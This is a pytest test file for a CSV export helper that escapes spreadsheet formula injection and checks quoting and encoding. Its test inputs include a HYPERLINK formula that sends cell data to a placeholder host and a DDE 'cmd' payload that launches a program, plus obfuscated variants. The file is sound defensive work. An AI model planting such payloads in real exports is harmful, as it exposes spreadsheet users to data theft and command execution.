import csv
import io
from decimal import Decimal

import pytest

from bot.rules import csv_cells

RUN = (
    '=HYPERLINK("http://x?"&A1)',
    "+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\0=1",
    "\tno formula, and yet",
    "\n=1",
    " \n \t1",
    "\u00a0=1",
)
SHOWN = ("", "hello", "a=1", "1-2", "ana@example.com", " padded", "\nnext line", "'quoted", "½ = half")


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_is_shown_instead(text: str) -> None:
    assert csv_cells.cell(text) == "'" + text


@pytest.mark.parametrize("text", SHOWN)
def test_other_words_stay_as_they_are(text: str) -> None:
    assert csv_cells.cell(text) == text


@pytest.mark.parametrize(
    ("value", "shown"), [(None, ""), (True, "yes"), (False, "no"), (-2, "-2"), (Decimal("-1.50"), "-1.50")]
)
def test_numbers_and_facts_are_no_formulas(value: object, shown: str) -> None:
    assert csv_cells.cell(value) == shown


def test_every_cell_is_quoted_and_the_file_says_that_it_is_utf_8() -> None:
    file = csv_cells.write([["Ana", 'said "hi"\nand left', None]], ["name", "words", "=more"])
    assert file == '\ufeff"name","words","\'=more"\r\n"Ana","said ""hi""\nand left",""\r\n'.encode()


def test_quotes_and_line_breaks_inside_a_cell_come_back_whole() -> None:
    words = ['"', 'a "b"\n=c', "x\r\ny", "å¼€"]
    file = csv_cells.write([words], list("abcd")).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(file, newline="")))[1] == words


def test_half_a_character_does_not_cost_the_file() -> None:
    assert b'"?"' in csv_cells.write([["\ud800"]], ["words"])
